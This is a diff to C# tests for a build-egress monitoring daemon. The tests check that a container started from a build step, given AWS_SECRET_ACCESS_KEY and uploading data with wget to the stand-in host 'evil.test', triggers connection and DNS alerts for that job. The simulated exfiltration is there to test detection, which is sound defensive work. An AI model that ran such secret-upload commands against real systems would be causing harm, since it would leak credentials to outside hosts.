@@ -32,7 +32,7 @@ public sealed class ContainerCaptureTests(NetworkLabFixture lab, DockerLabFixtur
 
         Assert.True(result.StandardOutput.Contains("build finished", StringComparison.Ordinal), Diagnose(daemon, result));
         var report = await ReportAsync(daemon, jobId);
-        Assert.Equal(0, report.GetProperty("violationCount").GetInt32());
+        Assert.True(report.GetProperty("violationCount").GetInt32() == 0, $"{report.GetProperty("violations")}\n{Diagnose(daemon, result)}");
         var destination = Assert.Single(report.GetProperty("destinations").EnumerateArray(),
             d => d.GetProperty("names").EnumerateArray().Any(n => n.GetString() == "registry.test"));
         Assert.True(destination.GetProperty("allowed").GetBoolean());
@@ -64,6 +64,25 @@ public sealed class ContainerCaptureTests(NetworkLabFixture lab, DockerLabFixtur
         Assert.Equal("evil.test", Str(host, "serverName"));
         Assert.True(Lab.BytesReceivedBy("evil.test") - before >= BuildJob.Secret.Length, "audit mode lets the upload through");
         Assert.True(!daemon.AlertRecords().Any(a => Kind(a) == "egress.unattributed" && IsLab(a)), Diagnose(daemon, result));
+        // One connection, judged once: the kernel's sighting at the connect and the capture's after NAT are the same.
+        Assert.Single(daemon.AlertRecords(), a => Kind(a) == "egress.connection" && Str(a, "job") == jobId);
+    }
+
+    [Fact]
+    public async Task On_the_proc_connector_fallback_a_docker_run_from_a_step_is_alerted_for_the_job_with_the_containers_wget()
+    {
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
+        await using var daemon = await StartAsync("audit", "proc-connector");
+        using var job = BuildJob.Start(Lab,
+            $"{Docker.Run} --rm -e AWS_SECRET_ACCESS_KEY {DockerLab.Image} sh -c 'sleep 1; {Upload}'");
+        var result = await job.WaitAsync();
+
+        Assert.True(result.StandardOutput.Contains("after", StringComparison.Ordinal), Diagnose(daemon, result));
+        var connection = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "job") == job.JobId);
+        Assert.Equal("198.18.0.66", Str(connection, "dst"));
+        Assert.Contains("wget", Argv(connection));
+        var dns = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Str(a, "job") == job.JobId);
+        Assert.Contains("evil.test", Names(dns));
     }
 
     /// <summary>On the fallback the kill comes after the first packet the capture saw: the query (asked from dockerd's
